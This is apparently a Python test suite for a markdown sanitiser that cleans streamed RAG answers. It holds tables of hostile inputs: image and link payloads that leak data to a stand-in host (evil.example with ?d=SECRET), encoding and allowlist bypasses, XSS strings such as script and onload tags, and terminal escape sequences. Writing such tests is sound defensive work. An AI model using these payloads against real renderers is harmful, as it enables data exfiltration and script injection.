"""The sanitiser, proven differentially: its output rendered by markdown-it-py and by cmark-gfm.

For every known payload class (each a table of variants, the review's bypasses
among them) and for hypothesis-generated markdown, the one-shot output and the
streamed output, split at every position, must render in both renderers with
no image, no raw HTML and no link to a host off the allowlist.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from docquery.rag.safe_url import resolved_host
from docquery.rag.sanitize import Sanitizer, inert
from docquery.rag.sanitize_stream import StreamSanitizer
from tests.support.markdown_oracle import renderings, violations

ALLOW = ("docs.example.com",)
SECRET = "http://evil.example/x?d=SECRET"

PAYLOADS: dict[str, list[str]] = {
    "entity-encoded scheme": [
        "[x](http&#58;&#47;&#47;evil.example/x?d=SECRET)",
        "[x](http&colon;//evil.example/x)",
        "[x](&#104;ttp://evil.example/x)",
        "[x](http&#x3A;&#x2F;&#x2F;evil.example/x)",
        "![x](http&#58;//evil.example/i.png)",
        "[x](https&#58;//docs.example.com&#64;evil.example/)",
        "<http&#58;//evil.example>",
        "[x][r]\n\n[r]: http&#58;&#47;&#47;evil.example/x",
        "[x](&#x68;ttps:&#x2F;&#x2F;evil.example)",
        "[x](h&#116;tp:evil.example/x)",
    ],
    "slash-less or odd slashes": [
        "[x](http:evil.example/x?d=SECRET)",
        "[x](https:evil.example)",
        "[x](HTTP:evil.example/x)",
        "[x](http:/evil.example/x)",
        "[x](http:\\\\evil.example/x)",
        "[x](https:/\\evil.example/x)",
        "[x](//evil.example/x)",
        "[x](\\\\evil.example/x)",
        "[x](ht%09tp://evil.example)",
        "[x](<http:evil.example/x y>)",
        "http:evil.example/x",
    ],
    "reference definitions": [
        "[x][r]\n\n[r]:\nhttp://evil.example/x?d=SECRET",
        "> [r]:\n> http://evil.example/x\n\n[x][r]",
        "[x]\n\n[x]: <http://evil.example>",
        "[x][r]\n\n   [r]: http://evil.example 'title'",
        "- [x][r]\n\n  [r]: http://evil.example",
        "[r]: http://evil.example\n\n[x][r] and [r] and [r][]",
        '[x][R]\n\n[r]:\n  http://evil.example\n  "t"',
        "> > [r]: http://evil.example\n\n[r]",
        "![x][r]\n\n[r]: http://evil.example/i.png",
        "[foo\nbar]\n\n[foo bar]: http://evil.example",
    ],
    "nested or escaped brackets": [
        "[a [b] c](http://evil.example/x)",
        "[a \\] b](http://evil.example/x)",
        "[[a]](http://evil.example)",
        "[a\\[b](http://evil.example)",
        "![[a]](http://evil.example/i.png)",
        "[![a](http://evil.example/i.png)](http://evil.example)",
        "[a [b [c] d] e](http://evil.example)",
        "\\[a](http://evil.example) [b](http://evil.example)",
        "[a`]`](http://evil.example)",
        "[a](http://evil.example/(x))",
    ],
    "autolinks and bare URLs": [
        "<http://evil.example/x>",
        "<HTTP://evil.example>",
        "<a@evil.example>",
        "http://evil.example/x?d=SECRET",
        "www.evil.example/x",
        "x@evil.example",
        "(www.evil.example)",
        "_www.evil.example_",
        "ftp://evil.example/x",
        "https://docs.example.com\\.evil.example/x",
        "https://docs.example.com@evil.example/x",
        "<mailto:a@evil.example>",
    ],
    "raw HTML": [
        "<img src=http://evil.example/x>",
        "<a href='http://evil.example'>x</a>",
        "<div>\n<img src=x>\n</div>",
        "<!-- comment -->",
        "<script>alert(1)</script>",
        "<iframe src=//evil.example>",
        "<svg onload=alert(1)>",
        "x <img\nsrc=x onerror=alert(1)> y",
        "&lt;img src=x&gt;",
        "<?php x ?>",
        "<![CDATA[x]]>",
    ],
    "images": [
        "![x](https://docs.example.com/i.png)",
        "![x](http://evil.example/i.png)",
        "![x][r]\n\n[r]: https://docs.example.com/i.png",
        "![shortcut]\n\n[shortcut]: http://evil.example",
        "! [x](http://evil.example)",
        "!\\[x](http://evil.example)",
        "!" + "[docs](https://docs.example.com/a)",
        "![x](data:image/png;base64,AAAA)",
        "![](<http://evil.example/a b>)",
        "*![x](http://evil.example)*",
    ],
    "allowlist tricks": [
        "[x](https://docs.example.com@evil.example/)",
        "[x](https://docs.example.com.evil.example/)",
        "[x](https://evil.example\\.docs.example.com/)",
        "[x](https://docs.example.com%2f@evil.example)",
        "[x](https://evil.example%2edocs.example.com)",
        "[x](https://evil.example#.docs.example.com)",
        "[x](https://evil.example?.docs.example.com)",
        "[x](javascript://docs.example.com/%0aalert(1))",
        "[x](https://xn--dcs-9cd.example.com)",
        "[x](https://docs.example.com:443@evil.example)",
    ],
    "long labels": [
        "[" + "a " * 200 + "](http://evil.example/x)",
        "[" + "word " * 100 + "](https://docs.example.com/a)",
        "[" + "a" * 600 + "](http://evil.example/x)",
        "![" + "b " * 300 + "](http://evil.example/i.png)",
        "[" + "[" * 50 + "x" + "]" * 50 + "](http://evil.example)",
        "[x](" + "/a" * 300 + "http://evil.example)",
        "[a\n" + "b\n" * 50 + "](http://evil.example)",
        "[" + "x " * 130 + "][r]\n\n[r]: http://evil.example",
        "<" * 300 + "img src=x>",
        "(" * 300 + "[a](http://evil.example)",
    ],
    # An outside review (2026-12-03): indentation in front of a fence the parser saw unindented.
    "indented fences": [
        "    ```\n![x](http://evil.example/i.png)\n```",
        "\t```\n<img src=http://evil.example/x>\n```",
        "     ```\n[x](http://evil.example/x)\n```",
        " \t```\n![x](http://evil.example/i.png)\n```",
        "\n    ```\n![x](http://evil.example/i.png)\n```",
        "text\n\n    ```\n![x](http://evil.example/i.png)\n```",
        "    ~~~\n![x](http://evil.example/i.png)\n~~~",
        "        ````md\n<a href=http://evil.example>x</a>\n````",
        "    ```\n[x][r]\n```\n\n[r]: http://evil.example",
        "\t\t```\n![x](http://evil.example/i.png)\n```\nafter",
    ],
    # The same review: GFM splits a table row at every "|", in code spans too.
    "GFM table cells": [
        "a|b\n-|-\n`|![i](http://evil.example/i.png)|`",
        "a | b\n--|--\n`x|![i](http://evil.example/i.png)|y`",
        "| a | b | c |\n|---|:-:|--:|\n| `x|[l](http://evil.example/x)|y` | 2 | 3 |",
        "a|b\n-|-\n`|<http://evil.example/x>|`",
        "a|b\n-|-\n`|http://evil.example/x|`",
        "a|b\n-|-\n`|www.evil.example|`",
        "a|b\n-|-\n``|<img src=http://evil.example/x>|``",
        "a|b\n-|-\n`\\|![i](http://evil.example/i.png)\\|`",
        "a|b|c\n-|-|-\n`|![i](http://evil.example/i.png)|` | `|[x](http://evil.example)|`",
        "> a|b\n> -|-\n> `|![i](http://evil.example/i.png)|`",
        "- a|b\n  -|-\n  `|![i](http://evil.example/i.png)|`",
    ],
    # The same review: a piece that ends inside a fence, whose closing line the next piece extended.
    "fences cut between pieces": [
        "```\nAAA BBB\n```\n![x](http://evil.example/i.png)\n```",
        "```\nA B C D\n```\n[x](http://evil.example/x)\n```\n",
        "~~~\nAAA BBB\n~~~\n<img src=http://evil.example/x>\n~~~",
        "- ```\n  AAA BBB\n  ```\n![x](http://evil.example/i.png)\n```",
        "> ```\n> AAA BBB\n> ```\n![x](http://evil.example/i.png)\n```",
        "````\nAAA ``` BBB\n````\n![x](http://evil.example/i.png)\n````",
        "```py\nAAA BBB\n```\n\n```\n![x](http://evil.example/i.png)\n```",
        "x ```\nAAA BBB\n```\n![x](http://evil.example/i.png)\n```",
        "```\nAAA\tBBB\n```\n![x](http://evil.example/i.png)\n```",
        "1. ```\n   AAA BBB\n   ```\n![x](http://evil.example/i.png)\n```",
    ],
}
CASES = [(cls, i, p) for cls, items in PAYLOADS.items() for i, p in enumerate(items)]


def stream(text: str, cuts: list[int], allow: tuple[str, ...] = ()) -> str:
    s = StreamSanitizer(Sanitizer(allow))
    out, last = [], 0
    for cut in sorted(set(cuts)):
        out.append(s.feed(text[last:cut]))
        last = cut
    out.append(s.feed(text[last:]))
    return "".join(out) + s.flush()


def check(out: str, allow: tuple[str, ...]) -> None:
    bad = violations(out, allow)
    assert not bad, (out, bad)


@pytest.mark.parametrize(("cls", "i", "payload"), CASES, ids=[f"{c}-{i}" for c, i, _ in CASES])
@pytest.mark.parametrize("allow", [(), ALLOW], ids=["no-allowlist", "allowlist"])
def test_known_payloads_one_shot_and_split_at_every_position(
    cls: str, i: int, payload: str, allow: tuple[str, ...]
) -> None:
    # Every split position for the payload; in the two surrounding contexts, every 5th.
    contexts = ((payload, 1), (f"The policy says [S1]. {payload} more text", 5), (f"> {payload}\n\n- {payload}", 5))
    for text, stride in contexts:
        check(Sanitizer(allow)(text), allow)
        for cut in range(0, len(text) + 1, stride):
            check(stream(text, [cut], allow), allow)
        check(stream(text, list(range(len(text))), allow), allow)  # one character per delta


def test_each_class_has_ten_variants() -> None:
    assert all(len(items) >= 10 for items in PAYLOADS.values())


FRAGMENTS = [
    "[", "]", "(", ")", "!", "<", ">", "\\", "`", "*", "_", "&", ";", ":", "/", "//", "@", "#", "'", '"', "=",
    "&#58;", "&#47;", "&#x3a;", "&colon;", "&lt;", "http", "https", "HTTP", "javascript", "mailto", "www.",
    "evil.example", "docs.example.com", "x", "S1", "[S1]", "a b", " ", "\n", "\n\n", "> ", "- ", "1. ", "    ",
    "```", "<img src=x>", "<a href=x>", "</a>", "[r]:", "[r]", "![", "](", "<http:", "%2e", "%40", "\t",
    "中", "路径", "д", "é", "\u200b", "（", "：", "|", "-|-", "\n|---|---|\n", "~~~", "    ```", "\t",
]  # fmt: skip
markdown = st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=24).map("".join)


@settings(max_examples=150, deadline=None, database=None)
@given(text=markdown, allow=st.sampled_from([(), ALLOW]))
def test_generated_markdown_split_at_every_position(text: str, allow: tuple[str, ...]) -> None:
    check(Sanitizer(allow)(text), allow)
    for cut in range(len(text) + 1):
        check(stream(text, [cut], allow), allow)


@settings(max_examples=150, deadline=None, database=None)
@given(text=markdown, cuts=st.lists(st.integers(min_value=0, max_value=200), max_size=12))
def test_generated_markdown_split_anywhere_many_times(text: str, cuts: list[int]) -> None:
    check(stream(text, [c % (len(text) + 1) for c in cuts], ALLOW), ALLOW)


# -- what must still work ---------------------------------------------------------------


def _links(markdown_text: str) -> list[str]:
    return [html for html in renderings(markdown_text).values() if 'href="https://docs.example.com/a"' in html]


def test_allowlisted_link_survives_every_split() -> None:
    text = "See [the handbook](https://docs.example.com/a) [S1]."
    assert len(_links(Sanitizer(ALLOW)(text))) == 2
    for cut in range(len(text) + 1):
        assert len(_links(stream(text, [cut], ALLOW))) == 2, cut


@pytest.mark.parametrize(
    "text",
    [
        "The policy gives 25 days [S1]. Ask HR [S2], or see [S1][S2].",
        "# Leave\n\n- **25 days** per year [S1]\n- carried over: *5* [S2]",
        'Use `cfg["x"]` and\n\n```py\nprint([1, 2])\n```',
    ],
)
def test_markdown_formatting_and_citations_are_kept(text: str) -> None:
    out = Sanitizer()(text)
    for html in renderings(out).values():
        assert "[S1]" in html or "cfg" in html
    assert "[S1]" in out or "cfg" in out


@settings(max_examples=100, deadline=None, database=None)
@given(
    text=st.text(alphabet=st.characters(blacklist_characters="[]<>!:@\\`&", blacklist_categories=("Cs", "Cc"))),
    cuts=st.lists(st.integers(min_value=0, max_value=10_000), max_size=8),
)
def test_plain_text_passes_unchanged(text: str, cuts: list[int]) -> None:
    if "www." not in text.lower():
        assert stream(text, [c % (len(text) + 1) for c in cuts]) == text


@settings(max_examples=100, deadline=None, database=None)
@given(
    text=st.text(alphabet=st.characters(max_codepoint=0x2FF, blacklist_categories=("Cs",)), max_size=80),
    cuts=st.lists(st.integers(min_value=0, max_value=200), max_size=8),
    allow=st.sampled_from([(), ALLOW]),
)
def test_no_control_character_but_tab_and_newline_reaches_a_terminal(
    text: str, cuts: list[int], allow: tuple[str, ...]
) -> None:
    """`docquery ask` prints answers on a terminal, which obeys escape sequences and carriage returns."""
    for out in (Sanitizer(allow)(text), stream(text, [c % (len(text) + 1) for c in cuts], allow)):
        assert not [c for c in out if (ord(c) < 0x20 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F]


@pytest.mark.parametrize(
    "seq", ["\x1b]52;c;aGk=\x07", "\x1b[31m", "\x1b[2J", "\x9b31m", "\r", "\x00", "\x1bP+q\x1b\\", "\x08" * 5]
)
def test_terminal_sequences_in_an_answer_are_removed(seq: str) -> None:
    text = f"The limit is 30 days{seq} [S1]."
    for out in (Sanitizer()(text), stream(text, list(range(len(text))))):
        assert out.startswith("The limit is 30 days") and out.endswith(" [S1].")
        # What is left of a sequence is its printable tail, as inert text ("[31m" becomes "\[31m").
        assert not [c for c in out if ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F]
        assert not violations(out)


# -- streaming: nothing stalls ----------------------------------------------------------


@pytest.mark.parametrize("allow", [(), ALLOW])
@pytest.mark.parametrize("stray", ["<<<Title: Leave policy", "<", "(", "[", "![", "<<", "<img", "]("])
def test_a_stray_opener_does_not_stall_the_stream(stray: str, allow: tuple[str, ...]) -> None:
    s = StreamSanitizer(Sanitizer(allow))
    released = s.feed(stray + " ")
    words = ["The", "policy", "gives", "25", "days", "of", "leave", "per", "year"]
    for word in words:
        released += s.feed(word + " ")
    if stray.lstrip("!").startswith("[") and allow:
        # A bracket may still become an allowlisted link: held, but only up to LINK_HOLD characters.
        assert len(released) == 0
        released += s.feed("x " * StreamSanitizer.LINK_HOLD)
        assert "leave" in released
    else:
        # Everything but the word being written is out at once.
        assert all(w in released for w in words[:-1]), released


@pytest.mark.parametrize("allow", [(), ALLOW])
def test_text_without_spaces_streams_and_is_kept(allow: tuple[str, ...]) -> None:
    answer = "根据文件，员工每年有二十五天带薪休假[S1]。" * 20  # 480 characters, no whitespace
    s = StreamSanitizer(Sanitizer(allow))
    released = [s.feed(ch) for ch in answer]
    # Each non-ASCII character goes out as it arrives (with any ASCII run held before it).
    assert all(released[i].endswith(ch) for i, ch in enumerate(answer) if ord(ch) > 127)
    assert "".join(released) + s.flush() == answer


@pytest.mark.parametrize(
    "text",
    [
        "访问https://evil.example/路径?d=SECRET吧",
        "见www.evil.example/页面",
        "邮件SECRET@evil.example谢谢",
        "链接[这里](http://evil.example/x)。",
        "https://docs.example.com路径.evil.example/x",
        "https://д" + "окс.evil.example/x",
        "![图](https://docs.example.com/i.png)",
    ],
)
def test_cuts_after_non_ascii_characters_form_no_link(text: str) -> None:
    for cut in range(len(text) + 1):
        for allow in ((), ALLOW):
            check(stream(text, [cut], allow), allow)
        check(stream(text, list(range(len(text))), ALLOW), ALLOW)


def test_a_whitespace_free_run_past_the_bound_is_dropped_whole() -> None:
    s = StreamSanitizer(Sanitizer(ALLOW))
    out = s.feed("x" * 5000 + "https://docs.example.com") + s.feed(".evil.example/x more") + s.flush()
    assert "evil" not in out and out.endswith(" more")


# -- the URL resolver -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("http://evil.example/x", "evil.example"),
        ("http:evil.example/x", "evil.example"),
        ("https:\\\\evil.example", "evil.example"),
        ("//evil.example/x", "evil.example"),
        ("\\/evil.example", "evil.example"),
        (" \x01https://EVIL.example./x", "evil.example"),
        ("ht\ttp://evil.example", "evil.example"),
        ("https://evil.example:8443/", "evil.example"),
        ("https://docs.example.com@evil.example", None),
        ("https://evil%2eexample", None),
        ("/relative/path", None),
        ("javascript:alert(1)", None),
        ("mailto:a@evil.example", None),
        ("https://évil.example", None),
    ],
)
def test_resolved_host_follows_whatwg(url: str, host: str | None) -> None:
    assert resolved_host(url) == host


# -- the shortcut for text that cannot hold markup ---------------------------------------

CITED = [
    "[S1]", "[S2]", "[S12]", "[S1234]", "[S12345]", "policy", "leave", " ", "  ", ".", ",", ";", "\n", "\n\n",
    "\t", "# ", "- ", "1. ", "> ", "    ", "*", "_", "**", "中", "é", "(", ")", "'", '"', "=", "-", "www", "W.", "S1",
]  # fmt: skip
cited_text = st.lists(st.sampled_from(CITED + FRAGMENTS), min_size=1, max_size=24).map("".join)
_MARKER = re.compile(r"(?<!\\)\[S\d+\]")


@settings(max_examples=400, deadline=None, database=None)
@given(text=cited_text, at_line_start=st.booleans())
def test_text_passed_without_parsing_is_safe_and_the_parser_agrees(text: str, at_line_start: bool) -> None:
    assume(inert(text))
    sanitizer = Sanitizer()
    out = sanitizer.render(text, at_line_start=at_line_start)
    assert out == text
    for allow in ((), ALLOW):
        check(out, allow)  # what goes out unparsed renders with no link, image or HTML in either renderer
    full = sanitizer.render_parsed(text, at_line_start=at_line_start)
    check(full, ())
    assert _MARKER.findall(full) == _MARKER.findall(text)  # the parser keeps the same markers raw


@pytest.mark.parametrize(
    "text",
    [
        "see [S1](http://evil.example/x)",
        "see [S1][r] more",
        "[S1]\n\n[S1]: http://evil.example",
        "see ![S1] now",
        "see \\[S1] now",
        "see [S12345] now",
        "see `[S1]` now",
        "see [S1]x now",
        "see [[S1]] now",
        "visit www.evil.example [S1].",
        "mail a@evil.example [S1].",
        "see [S1]<img src=x>",
    ],
)
def test_markers_next_to_markup_go_through_the_parser(text: str) -> None:
    assert not inert(text)
    for allow in ((), ALLOW):
        check(Sanitizer(allow)(text), allow)


_SPACES = st.sampled_from(
    [" ", "  ", "\t", "\n", "\r", "\x0b", "\x1c", "\x85", "\xa0", "\u2028", "\u3000", "\x00", "\x7f"]
)


@settings(max_examples=300, deadline=None, database=None)
@given(text=st.lists(st.one_of(st.text(max_size=8), _SPACES), max_size=30).map("".join))
def test_label_skips_the_space_rewrite_only_where_it_changes_nothing(text: str) -> None:
    flat = " ".join(re.sub(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]+", " ", text).split())
    assert Sanitizer().label(text) == Sanitizer().render(flat)
